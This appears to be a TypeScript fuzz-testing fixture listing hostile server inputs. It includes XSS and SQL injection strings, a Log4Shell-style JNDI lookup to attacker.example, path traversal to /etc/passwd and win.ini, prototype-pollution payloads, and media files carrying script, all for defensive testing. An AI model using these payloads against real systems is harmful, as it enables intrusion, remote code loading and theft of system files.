import fc from 'fast-check';

/**
 * The catalogue of input meant to hurt a server, shared by the contract fuzz and the
 * hand-written hostile cases.
 */

/** Text that has broken servers: control characters, markup, injections, odd Unicode. */
export const HOSTILE_TEXT = [
  '',
  ' ',
  '\t\r\n',
  'a\u0000b',
  '\u0000',
  '%00',
  '\ud800', // a lone surrogate: not valid UTF-16 on its own
  '\u202eevil\u202c', // right-to-left override
  '\u200b\ufeff', // zero-width space, byte-order mark
  'ﷺ'.repeat(50),
  'Z̴̡̛̖̈́̆a̷̡̛l̶̢̛g̵o̸',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[click](javascript:alert(1))',
  "'; DROP TABLE users; --",
  '" OR "1"="1',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '__proto__',
  'constructor',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  'a@b',
  '@.',
  'user@example.com\r\nBcc: victim@example.com',
];

/**
 * A hostile text, NUL characters more often than the rest: text that PostgreSQL cannot store
 * is the likeliest way for good-looking input to become a 500.
 */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom('a\u0000b', '\u0000', 'trailing\u0000') },
  { weight: 5, arbitrary: fc.constantFrom(...HOSTILE_TEXT) },
);

/** Numbers at the edges of what JSON, JavaScript and PostgreSQL hold. */
export const HOSTILE_NUMBERS = [
  0,
  -0,
  -1,
  0.5,
  1e-300,
  5e-324,
  2 ** 31 - 1,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 53,
  Number.MAX_SAFE_INTEGER + 2,
  -Number.MAX_SAFE_INTEGER,
  1e21,
  1e308,
  -1e308,
  Number.MAX_VALUE,
];

/** JSON text that is not quite JSON, or JSON that only a careless parser accepts. */
export const BROKEN_JSON_TEXT = [
  '',
  ' ',
  '{',
  '{"a":',
  '{"a":1,}',
  "{'a':1}",
  '{a:1}',
  'undefined',
  'NaN',
  '[1,2',
  '"unterminated',
  '\u0000',
  '\ufeff{}',
  '{"__proto__":{"isCoach":true}}',
  '{"constructor":{"prototype":{"isCoach":true}}}',
  '{"a":1e999999}',
  '{"a":-1e999999}',
  '{"a":"\\ud800"}',
  '{"a":"\\u0000"}',
  '{"a":1}{"b":2}',
  '1',
  'true',
  'null',
  '"text"',
  '[]',
];

/**
 * Path segments for ids, as they go on the wire (already percent-encoded where that matters):
 * traversal in every encoding, NUL, broken escapes, over-long ids, look-alikes of UUIDs.
 */
export const HOSTILE_PATH_SEGMENTS = [
  '..',
  '.',
  '..%2F..%2F..%2Fetc%2Fpasswd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '%252e%252e%252fetc%252fpasswd',
  '..%5C..%5Cwindows',
  '%00',
  'a%00b',
  '%E0%A4%A', // a broken escape
  '%',
  '%FF%FE',
  'x'.repeat(101),
  'x'.repeat(5000),
  '%F0%9F%92%AA',
  'null',
  'undefined',
  '-1',
  '0',
  '1e308',
  '%20',
  '%27%3B%20DROP%20TABLE%20videos%3B--',
  '%3Cscript%3E',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  'FFFFFFFF-FFFF-4FFF-8FFF-FFFFFFFFFFFF',
  '%7B00000000-0000-4000-8000-000000000000%7D',
  '00000000-0000-4000-8000-0000000000000',
  '00000000000040008000000000000000',
];

/** Tails for `/uploads/<key>` that try to climb out of the blob store or confuse the key check. */
export const HOSTILE_BLOB_KEYS = [
  '../../etc/passwd',
  '..%2F..%2F..%2Fetc%2Fpasswd',
  '%2e%2e/%2e%2e/%2e%2e/etc/passwd',
  '%252e%252e%252f%252e%252e%252fetc%252fpasswd',
  '..%5C..%5C..%5Cetc%5Cpasswd',
  '....//....//etc/passwd',
  '%2fetc%2fpasswd',
  '/etc/passwd',
  'videos/../../../etc/passwd',
  'videos/%00/media.mp4',
  'incoming/anything',
  '.partial/anything',
  'postgres/postmaster.pid',
  'x'.repeat(5000),
];

/** Query strings the server never asked for. */
export const HOSTILE_QUERIES = [
  '?',
  '?a',
  '?a=1&a=2&a=3',
  '?__proto__[isCoach]=true',
  '?constructor[prototype][x]=1',
  '?id=..%2F..%2Fetc%2Fpasswd',
  '?x=%00',
  // Names the list routes read (a NUL in a search reached PostgreSQL: a 500).
  '?q=%00',
  '?q=a%00&cursor=%00',
  '?x=%E0%A4%A',
  `?${'k'.repeat(2000)}=${'v'.repeat(2000)}`,
  '?limit=-1&offset=1e308',
  '?callback=alert(1)',
  '?format=xml',
];

/** Files that claim to be media but carry markup or script. */
export const DISGUISED_FILES = {
  svg: Buffer.from(
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' +
      '<script>alert(document.cookie)</script></svg>',
  ),
  html: Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script>'),
  /** An MP4's first bytes followed by a web page: passes a lazy magic-number check. */
  mp4ThenHtml: Buffer.concat([
    Buffer.from('000000186674797069736f6d0000020069736f6d69736f32', 'hex'),
    Buffer.from('<html><script>alert(1)</script></html>'),
  ]),
  /** WebM's EBML magic and nothing an audio decoder can read. */
  webmMagicOnly: Buffer.concat([Buffer.from('1a45dfa3', 'hex'), Buffer.alloc(64, 0xff)]),
};
